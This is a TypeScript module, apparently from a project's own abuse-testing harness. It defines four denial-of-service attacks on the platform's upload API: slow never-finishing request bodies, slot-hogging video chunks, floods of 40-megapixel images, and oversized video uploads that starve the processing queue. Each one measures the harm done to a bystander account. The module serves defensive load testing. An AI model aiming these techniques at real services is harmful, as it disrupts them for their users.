// Attacks by what is sent: bodies that never end, pictures that are hard to decode, videos that
// take the only place where videos are prepared.

import { setTimeout as pause } from 'node:timers/promises';
import sharp from 'sharp';
import { makeFilm, makeTone, padded } from '#features/platform/media/factory.server.ts';
import { CHUNK_BYTES } from '#features/platform/media/rules.ts';
import { servicesEnv } from '#tools/services/env.ts';
import { written, type Client } from './client.ts';
import { hold } from './forms.ts';
import type { Person } from './ordinary.ts';
import { makeNote, type Attack, type MadeNote, type Outcome, type Raid } from './raid.ts';

const LAST_BYTES = 100;
const READY_SECONDS = 60;

const MOST_OPEN = 300;

async function openBodies(raid: Raid): Promise<void> {
  const bytes = 10 * 1024 * 1024;
  let begun = 0;
  await Promise.all(
    Array.from({ length: 60 }, async () => {
      while (begun < MOST_OPEN && Date.now() < raid.until) {
        begun += 1;
        const form = {
          path: '/api/user/img',
          type: 'image/jpeg',
          bytes,
          first: bytes - LAST_BYTES,
        };
        await hold(raid, form);
        await pause(200);
      }
    }),
  );
}

const pieceOf = (raid: Raid, { idS, idM }: MadeNote, { cookie }: Person, kind: string) => ({
  method: 'POST',
  path: `/api/user/note/${kind}?idS=${idS}&idM=${idM}&send=0`,
  headers: { ...written(raid.url, cookie), 'content-type': 'application/octet-stream' },
});

async function sendWhole(
  raid: Raid,
  client: Client,
  { idS, idM }: MadeNote,
  { cookie }: Person,
  film: Buffer,
): Promise<boolean> {
  for (let from = 0; from < film.length; from += CHUNK_BYTES) {
    const body = film.subarray(from, from + CHUNK_BYTES);
    const { status } = await raid.ask(client, {
      method: 'PUT',
      path: `/api/user/note/video?idS=${idS}&idM=${idM}&send=${from === 0 ? 0 : 1}`,
      headers: {
        ...written(raid.url, cookie),
        'content-type': 'application/octet-stream',
        'content-range': `bytes ${from}-${from + body.length - 1}/${film.length}`,
      },
      body,
      patience: 30_000,
    });
    if (status !== 200) return false;
  }
  return true;
}

async function occupiedSlots(raid: Raid): Promise<Outcome> {
  const tone = await makeTone(servicesEnv().FFMPEG, 'tone.mp3', 1);
  const notes = await Promise.all(
    raid.attackers.map((person) => makeNote(raid, person, 'Озын видео', 'Монда видео.')),
  );
  const holding = raid.attackers.flatMap(({ cookie }, n) =>
    Array.from({ length: 4 }, () => {
      const { idS, idM } = notes[n] ?? { idS: 'x', idM: '1' };
      const path = `/api/user/note/video?idS=${idS}&idM=${idM}&send=0`;
      const type = 'application/octet-stream';
      return hold(raid, { path, type, bytes: CHUNK_BYTES, first: 100_000, cookie });
    }),
  );
  const own = { tried: 0, failed: 0 };
  for (let n = 0; n < 10 && Date.now() < raid.until - 2000; n += 1) {
    await pause(Math.max(500, (raid.seconds * 1000) / 12));
    const note = await makeNote(raid, raid.bystander, `Җыр ${n}`, 'Монда җыр.');
    if (note === null) continue;
    own.tried += 1;
    const asked = { ...pieceOf(raid, note, raid.bystander, 'audio'), body: tone, patience: 5000 };
    if ((await raid.ask(raid.client(9), asked)).status !== 200) own.failed += 1;
  }
  await Promise.all(holding);
  return {
    said: `${own.failed} of ${own.tried} uploads of somebody else failed`,
    isHarm: own.failed > 0,
  };
}

async function largePictures(raid: Raid): Promise<void> {
  const picture = await sharp({
    create: { width: 8000, height: 5000, channels: 3, background: '#41c98b' },
  })
    .jpeg()
    .toBuffer();
  const { cookie } = raid.attackers[0]!;
  for (let round = 0; round < 3 && Date.now() < raid.until; round += 1)
    await Promise.all(
      Array.from({ length: 16 }, () =>
        raid.ask(raid.client(), {
          method: 'PUT',
          path: '/api/user/img',
          headers: { ...written(raid.url, cookie), 'content-type': 'image/jpeg' },
          body: picture,
        }),
      ),
    );
}

async function videos(raid: Raid): Promise<Outcome> {
  const ffmpeg = servicesEnv().FFMPEG;
  const long = await makeFilm(ffmpeg, { seconds: 40, size: '1280x720' });
  const short = await makeFilm(ffmpeg, { seconds: 1, size: '320x240' });
  const [greedy, hoarder] = raid.attackers as [Person, Person];
  for (let n = 0; n < 8; n += 1) {
    const note = await makeNote(raid, greedy, `Озын видео ${n}`, 'Монда видео.');
    if (note !== null) await sendWhole(raid, raid.client(), note, greedy, long);
  }
  const own = await makeNote(raid, raid.bystander, 'Кыска видео', 'Монда видео.');
  const sentAt = Date.now();
  if (own !== null) await sendWhole(raid, raid.client(9), own, raid.bystander, short);
  const claimed = await hoard(raid, hoarder, padded(short, CHUNK_BYTES));
  let isReady = false;
  while (own !== null && !isReady && Date.now() < sentAt + READY_SECONDS * 1000) {
    await pause(1000);
    const { text, status } = await raid.client(9)({
      path: `/api/user/note/${own.id}/upload`,
      headers: { cookie: raid.bystander.cookie },
    });
    isReady = status === 200 && text().includes('"ready"');
  }
  const waited = (Date.now() - sentAt) / 1000;
  return {
    said: `a video of one second behind eight long ones of one person was ${isReady ? `ready after ${waited.toFixed(0)} s` : `not ready after ${READY_SECONDS} s`}; another began ${claimed} uploads of 500 MB`,
    isHarm: !isReady,
  };
}

/** Begins as many uploads of the largest size as it is let, twelve at most. */
async function hoard(raid: Raid, person: Person, piece: Buffer): Promise<number> {
  let begun = 0;
  for (let n = 0; n < 12; n += 1) {
    const note = await makeNote(raid, person, `Зур видео ${n}`, 'Монда видео.');
    if (note === null) continue;
    const asked = pieceOf(raid, note, person, 'video');
    const { status } = await raid.ask(raid.client(), {
      ...asked,
      headers: {
        ...asked.headers,
        'content-range': `bytes 0-${piece.length - 1}/${500 * 1024 * 1024}`,
      },
      body: piece,
      patience: 30_000,
    });
    if (status === 200) begun += 1;
  }
  return begun;
}

export const uploads: Record<string, Attack> = {
  'open bodies': {
    about: '60 pictures of 10 MB from nobody, whose last bytes come slowly',
    run: openBodies,
  },
  'occupied slots': {
    about: '64 pieces of video whose bytes come slowly, of 16 people',
    run: occupiedSlots,
  },
  'large pictures': {
    about: 'pictures of 40 megapixels, 16 at once, of one person',
    run: largePictures,
  },
  videos: {
    about: 'eight long videos of one person, and twelve of 500 MB begun by another',
    run: videos,
  },
};
